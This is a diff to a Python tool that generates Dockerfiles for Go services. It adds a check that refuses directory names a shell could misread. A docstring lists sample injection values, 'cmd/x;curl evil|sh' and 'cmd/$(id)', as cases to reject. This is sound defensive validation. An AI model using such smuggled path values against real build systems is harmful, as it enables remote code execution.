@@ -4,6 +4,7 @@ compose file or CI pipeline a Go service needs, from the facts ``check`` reads."
 from __future__ import annotations
 
 import posixpath
+import re
 import sys
 from dataclasses import dataclass, replace
 from pathlib import Path
@@ -276,11 +277,32 @@ def _existing(root: Path, ix: ProjectIndex, f: InitFacts) -> dict[str, list[str]
 COMPOSE_NAMES = ("compose.yaml", "compose.yml", "docker-compose.yaml", "docker-compose.yml")
 
 
+#: What a directory name may hold to be written into a Dockerfile (a shell-form RUN
+#: included): what Go accepts in an import path element, and nothing a shell reads.
+_SAFE_PATH = re.compile(r"[A-Za-z0-9._~/+-]+")
+
+
+def _unsafe_paths(facts: InitFacts) -> list[str]:
+    """Directory names init would have to write into the Dockerfile that are not safe
+    there (``cmd/x;curl evil|sh``, ``cmd/$(id)``, ``cmd/my app``): Go refuses them as
+    package paths anyway."""
+    paths = [facts.main_pkg, facts.root, facts.context, *facts.local_modules]
+    return [p for p in paths if not _SAFE_PATH.fullmatch(p)]
+
+
 def _generate(root: Path, ix: ProjectIndex, facts: InitFacts, asked: _Asked) -> None:
     """Write (or show) one service's files, then its notes."""
     # Files relative to the service's module root, and (CI) to the checked directory:
     # GitHub and GitLab read their pipelines only at the top of the repository.
     from dockready.generate import render_k8s, writer
+
+    unsafe = _unsafe_paths(facts)
+    if unsafe:
+        _fail(
+            f"{facts.name}: the directory name {unsafe[0]!r} cannot be written into a "
+            "Dockerfile safely, and go build rejects it as a package path; rename it "
+            "(letters, digits, '.', '_', '-', '~', '+')"
+        )
     from dockready.generate.render_docker import render_docker
 
     service_files: dict[str, str] = {}
